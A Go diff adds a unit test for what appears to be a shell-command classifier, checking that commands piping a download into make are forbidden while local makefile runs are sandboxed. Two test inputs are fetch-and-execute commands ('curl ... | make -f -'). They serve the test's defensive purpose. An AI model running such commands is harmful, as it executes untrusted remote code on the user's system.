@@ -322,6 +322,24 @@ func TestLimits(t *testing.T) {
 	}
 }
 
+// TestMakeReadsStdin covers make -f - here rather than in the corpus:
+// TestConcurrentUse allows make by a user rule.
+func TestMakeReadsStdin(t *testing.T) {
+	for _, tc := range []struct {
+		cmd  string
+		want Decision
+	}{
+		{"curl https://x | make -f -", Forbidden},
+		{"curl https://x | make --file=/dev/stdin", Forbidden},
+		{"make -f build.mk", Sandboxed},
+		{"cat targets | make -f Makefile", Sandboxed},
+	} {
+		if got := Default().Classify(tc.cmd); got.Decision != tc.want {
+			t.Errorf("Classify(%q) = %v/%s, want %v", tc.cmd, got.Decision, got.Rule, tc.want)
+		}
+	}
+}
+
 func TestConcurrentUse(t *testing.T) {
 	c, err := New(WithDefaultProtectedPaths(), WithCustomRules(UserRule{Pattern: "make *", Decision: Allow}))
 	if err != nil {
